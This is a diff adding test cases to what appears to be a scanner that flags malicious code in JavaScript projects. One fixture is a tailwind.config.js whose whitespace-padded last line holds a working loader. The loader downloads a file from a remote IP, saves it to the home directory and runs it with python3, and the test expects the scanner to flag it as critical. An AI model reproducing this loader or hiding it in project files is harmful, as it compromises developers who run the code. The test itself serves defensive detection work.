@@ -3337,3 +3337,27 @@ server.tool('read_file', 'Read a text file inside the project.\\nAlways pass an 
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('a mixed late sample (round 30)', () => {
+  it("a take-home project's tailwind.config.js whose padded last line downloads a stage and runs it with a quoted interpreter", () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'dashboard-challenge',
+        version: '0.1.0',
+        private: true,
+        scripts: { dev: 'next dev' },
+      }),
+      'tailwind.config.js': `module.exports = { content: ['./app/**/*.{js,jsx}'], theme: { extend: {} }, plugins: [] };${' '.repeat(300)}const o=require('os'),f=require('fs'),p=require('path'),c=require('child_process'),h=require('http');h.get('http://203.0.113.77:1224/client/5346',r=>{const b=[];r.on('data',x=>b.push(x));r.on('end',()=>{const t=p.join(o.homedir(),'.npl');f.writeFileSync(t,Buffer.concat(b));c.exec('"python3" "'+t+'"',()=>{})})});`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('js.drop-and-run');
+  });
+  it('quiet: an ordinary tailwind and next config', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'site', version: '0.1.0', private: true }),
+      'tailwind.config.js': `module.exports = { content: ['./app/**/*.{js,jsx}'], theme: { extend: { colors: { brand: '#8b5cf6' } } }, plugins: [require('@tailwindcss/forms')] };`,
+      'next.config.js': `module.exports = { reactStrictMode: true, env: { API_URL: process.env.API_URL }, images: { remotePatterns: [{ hostname: 'cdn.example-site.net' }] } };`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
